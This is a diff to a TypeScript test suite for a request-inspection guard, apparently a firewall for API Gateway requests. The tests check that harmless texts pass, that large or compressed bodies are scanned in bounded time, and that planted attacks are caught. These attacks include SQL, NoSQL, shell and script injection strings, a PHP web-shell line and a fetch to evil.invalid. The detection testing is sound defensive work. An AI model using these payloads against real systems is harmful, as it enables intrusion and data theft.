@@ -1,3 +1,5 @@
+import { randomBytes } from 'crypto';
+import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'zlib';
 import fc from 'fast-check';
 import { testRequests } from './gotestwaf';
 import { furtherPayloads, furtherTexts, halves, HeldOut, heldOutPayloads, heldOutTexts, judgedTexts } from './held-out';
@@ -104,9 +106,96 @@ describe('ordinary texts', () => {
     '1 or 2 pieces', 'rock \'n\' roll', 'the boys\' -- and girls\'', 'cat food; dog food', 'Echo Dot | Alexa', 'Find it on page 3; sort by price', 'drop off at table 5; update me by text', 'Select all from the menu', 'Update set to 5', 'Order by 10 or we cancel',
     'Delete from list please', 'union station, 2nd exit', 'Please confirm (by 5pm)', 'Confirm (y/n)', 'alert (red)', 'print (2 copies)', 'I <3 this!', 'A<B and C>D', '{{name}}, your order ships', 'Hello ${name}', 'https://shop.example.com/a?b=1&c=2#top', 'C:/Users/tom/photo.jpg',
     '../images/pic.png', 'R&D; id 5', 'w; h; d', 'ping me at 5', 'kill bill | dvd', '10 > 9 and 3 < 4', 'O\'Brien', 'Procter & Gamble', 'Licensed under the "License");', 'email: a+b@example.com; tel: +1 (555) 010-0000', '-- Tom', '# urgent', '/* no code */ only a comment',
+    // what entities, tags, templates, GraphQL and quotations hold
+    '<h1>Sale &amp; more</h1>', '&copy; 2026 Acme; all rights reserved', '<p style="text-align:center">Mid</p>', '<img src="/images/a.png" alt="A cat & a dog">', '<%= name %>', '{{date \'YYYY-MM-DD\'}}',
+    'query ($after: String) { users(after: $after) { edges { node { id } } } }', 'He said "having lunch at 12 and dinner at 7"', 'He said "limit 10 per customer; offset by returns"', '"between 5 and 7 pm, or 1 in 2 chances"',
+    'Either 1 or 0 -- right?', '1 and 1 is 2', 'port 443; ping 5ms; cat 6 cable', 'await fetch(\'/api/orders\', { method: \'POST\' })', 'When I run SELECT * FROM orders WHERE id = 5 I get a timeout.',
+    'Query: UPDATE stock SET qty = 0 WHERE sku = "A-1"', 'The docs say `docker run -p 80:80 nginx` first.', 'Our report uses `SELECT name, price FROM items ORDER BY price DESC LIMIT 10` and is slow',
   ])('%s', (text) => {
     expect(inspectRequest(json({ note: text, [text]: 1 }))).toEqual([]);
   });
+});
+
+describe('long and encoded bodies', () => {
+  const ATTACK = '\' or 1=1--';
+  const MEGABYTES = 5_900_000;
+  const attacks = (event: object) => inspectRequest(event).map(({ attack, place }) => `${attack} in ${place}`);
+  const bytes = (body: Buffer, headers: Record<string, string> = {}) => ({ httpMethod: 'POST', path: '/orders', headers, body: body.toString('base64'), isBase64Encoded: true });
+  const calm = 'a line of text, with a blank at its end ';
+  const noise = (length: number) => Buffer.from(Array.from({ length }, (_, i) => (i * i * 31 + i * 7 + (i >> 5)) % 256)); // eslint-disable-line no-bitwise
+  const part = (name: string, held: Buffer) => Buffer.concat([Buffer.from(`--b0\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n`), held, Buffer.from('\r\n')]);
+  const form = (held: Buffer) => bytes(Buffer.concat([part('picture', noise(50_000)), part('note', held), Buffer.from('--b0--')]), { 'content-type': 'multipart/form-data; boundary=b0' });
+
+  test.each([
+    ['one text that holds the attack', (end: string) => json({ note: calm.repeat(MEGABYTES / calm.length) + end })],
+    ['many texts', (end: string) => json([...Array(1_200_000).fill('ab'), end])],
+    ['many objects', (end: string) => json([...Array.from({ length: 120_000 }, (_, id) => ({ id, sku: 'SKU-1', name: 'chair' })), { end }])],
+    ['Base64', (end: string) => bytes(Buffer.from(JSON.stringify({ note: calm.repeat(4_000_000 / calm.length), end })))],
+    ['gzip', (end: string) => bytes(gzipSync(JSON.stringify({ note: calm.repeat(MEGABYTES / calm.length), end })), { 'Content-Encoding': 'gzip' })],
+  ])('what stands at the end of six megabytes is found, and in bounded time: %s', (_, event) => {
+    const started = process.cpuUsage();
+    expect(attacks(event(ATTACK))).toEqual(['sql-injection in body']);
+    expect(attacks(event('two chairs'))).toEqual([]);
+    const { user, system } = process.cpuUsage(started);
+    expect((user + system) / 1_000).toBeLessThan(20_000); // a tenth of it or less on a machine that does nothing else
+  }, 60_000);
+
+  test.each([['gzip', gzipSync], ['x-gzip', gzipSync], ['deflate', deflateSync], ['deflate', deflateRawSync], ['br', brotliCompressSync]] as const)('a body in %s is read (%#)', (coding, compress) => {
+    expect(attacks(bytes(compress(JSON.stringify({ note: ATTACK })), { 'content-encoding': coding }))).toEqual(['sql-injection in body']);
+    expect(attacks(bytes(compress(JSON.stringify({ note: 'two chairs' })), { 'content-encoding': coding.toUpperCase() }))).toEqual([]);
+  });
+
+  test.each([
+    ['one that is longer than a request may be', gzipSync(Buffer.alloc(6_300_000, 'a ')), 'gzip'],
+    ['one that is cut off', gzipSync(noise(9_000)).subarray(0, 5_000), 'gzip'],
+    ['one that is no gzip', noise(2_000), 'gzip'],
+    ['one in a coding that the guard does not know', noise(2_000), 'compress'],
+    ['one in two codings', gzipSync(gzipSync('a')), 'gzip, gzip'],
+    ['one in a coding with the name of a property', noise(2_000), 'constructor'],
+  ])('of compressed bodies, %s is reported as not inspected', (_, body, coding) => {
+    expect(attacks(bytes(body, { 'content-encoding': coding }))).toEqual(['not-inspected in body']);
+  });
+
+  test('a body that API Gateway decompressed is read as it is, though its header stays', () => {
+    expect(attacks({ ...json({ note: ATTACK }), headers: { 'content-encoding': 'gzip' } })).toEqual(['sql-injection in body']);
+    expect(attacks(bytes(Buffer.from(JSON.stringify({ note: 'two chairs' })), { 'content-encoding': 'gzip' }))).toEqual([]);
+  });
+
+  test('a form with a picture in it is read in each part', () => {
+    expect(attacks(form(Buffer.from(ATTACK)))).toEqual(['sql-injection in body']);
+    expect(attacks(form(Buffer.from('two chairs')))).toEqual([]);
+    expect(attacks(form(Buffer.concat([noise(5_000), Buffer.from(' <?php system($_GET[\'c\']); ?> '), noise(5_000)])))).not.toEqual([]);
+  });
+
+  test('bytes of pictures and archives are no attack', () => {
+    const random = Array.from({ length: 40 }, () => bytes(randomBytes(250_000), { 'content-type': 'image/jpeg' }));
+    expect(random.flatMap(attacks)).toEqual([]);
+  });
+
+  test('a text that is percent encoded again and again ends soon', () => {
+    const started = process.cpuUsage().user;
+    expect(attacks(json({ note: `%${'25'.repeat(1_000_000)}` }))).toEqual([]);
+    expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(10_000);
+  });
+
+  test('a text of letters that stand for sentences is no longer than it was', () => {
+    expect(attacks(json({ note: '\ufdfa'.repeat(1_900_000) }))).toEqual([]);
+  });
+});
+
+test('keys of JSON Schema and references are no operators, and operators are', () => {
+  expect(inspectRequest(json({ $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'a', $defs: { a: { $ref: '#/b', $comment: 'c' } } }))).toEqual([]);
+  expect(inspectRequest(json({ id: { $ne: null } }))).toEqual([{ attack: 'nosql-injection', place: 'body' }]);
+  expect(inspectRequest(json({ $where: 'sleep(1)' }))).toEqual([{ attack: 'nosql-injection', place: 'body' }]);
+});
+
+// each is one letter or word away from a text that passes
+test.each([
+  ['sql-injection', 'x\' having 1=1--'], ['sql-injection', '" order by 5'], ['sql-injection', '1 and 1 is null'], ['sql-injection', '1 or 1 -- '], ['sql-injection', '\'; select * from users'], ['sql-injection', 'x\' union select * from users'],
+  ['shell-injection', 'a & more /etc/hosts'], ['shell-injection', 'a &amp;& cat < /etc/hosts'], ['shell-injection', 'a; ping 10.0.0.5;'], ['shell-injection', '{cat,/etc/hosts}'], ['shell-injection', '10 `docker run -p 80:80 nginx`'],
+  ['script-injection', '<p style="width:expression(alert(1))">'], ['script-injection', '<img src="/images/a.png" onerror="go()">'], ['script-injection', '<img src=x>'], ['script-injection', '";fetch(\'//evil.invalid\')'],
+])('%s is found beside such texts: %s', (attack, text) => {
+  expect(inspectRequest(json({ note: text })).map((one) => one.attack)).toEqual([attack]);
 });
 
 describe('places', () => {
